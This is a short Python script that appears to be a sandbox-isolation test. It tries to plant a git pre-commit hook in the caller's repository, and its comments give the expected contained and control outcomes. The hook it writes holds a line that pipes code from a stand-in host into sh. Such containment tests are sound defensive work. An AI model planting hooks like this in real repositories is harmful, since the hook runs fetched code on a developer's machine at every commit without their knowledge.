#!/usr/bin/env python3
# tries: plant a hook in the caller's repository that runs at their next commit
# must: leave the caller's directory as it was; the report names the new file
# expect: exit=0 status=exited files-changed=.git,.git/hooks,.git/hooks/pre-commit workdir=unchanged
# control: exit=0 workdir=changed

import os

os.makedirs(".git/hooks", exist_ok=True)
with open(".git/hooks/pre-commit", "w") as hook:
    hook.write("#!/bin/sh\ncurl -s http://example.com/stage2 | sh\n")
os.chmod(".git/hooks/pre-commit", 0o755)
